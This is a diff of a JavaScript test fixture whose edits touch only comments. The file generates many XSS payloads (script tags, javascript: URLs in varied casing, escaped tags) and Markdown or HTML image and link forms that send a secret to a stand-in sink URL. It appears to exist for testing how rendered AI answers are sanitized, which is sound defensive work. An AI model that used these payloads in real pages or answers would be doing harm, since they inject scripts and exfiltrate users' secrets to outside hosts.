@@ -1,9 +1,9 @@
-// What an answer may try: to run a script, or to send something away. Made by combination, so that no syntax is spared.
+// Attacks in an answer: running a script, or sending data away. They are combined systematically, so that every syntax is covered.
 
 /** Sets a mark in the page if it ever runs, from a frame too. */
 const run = "(globalThis.parent??globalThis).ran=(globalThis.ran??0)+1";
 
-/** Markup that runs something by itself, or when it is touched. */
+/** Markup that runs a script by itself, or on interaction. */
 const markup = [
   `<script>${run}</script>`,
   `<SCRIPT SRC=//SINK/x.js></SCRIPT>`,
@@ -55,7 +55,7 @@ const markup = [
   `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
 ];
 
-/** Where Markdown may put it. */
+/** The places in Markdown where it can be. */
 const places = [
   (text) => text,
   (text) => `- item ${text}`,
@@ -67,7 +67,7 @@ const places = [
   (text) => `\`\`\`html\n${text}\n\`\`\`\n${text}`,
 ];
 
-/** Addresses that run something where they are followed. */
+/** URLs that run a script when a user follows them. */
 const addresses = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -106,7 +106,7 @@ export const scripts = [
   ...links.flatMap((link, at) => addresses.map((address, n) => link(address, at * 100 + n))),
 ];
 
-/** Ways to make a page ask for something by itself, with a secret in the address. */
+/** Ways to make a page send a request by itself, with a secret in the URL. */
 const leaks = [
   (to) => `![x](${to})`,
   (to) => `![x](<${to}> "title")`,
@@ -143,7 +143,7 @@ const leaks = [
   (to) => `$\\includegraphics{${to}}$ and {{< figure src="${to}" >}}`,
 ];
 
-/** Leaks to this address, written in full and without a scheme. */
+/** Leaks to this URL, with and without a scheme. */
 export function leaksTo(sink) {
   const full = leaks.map((leak, n) => leak(`${sink}/leak?secret=full-${n}`, n));
   const bare = leaks.map((leak, n) => leak(`${sink.replace(/^http:/, "")}/leak?secret=bare-${n}`, n + 100));
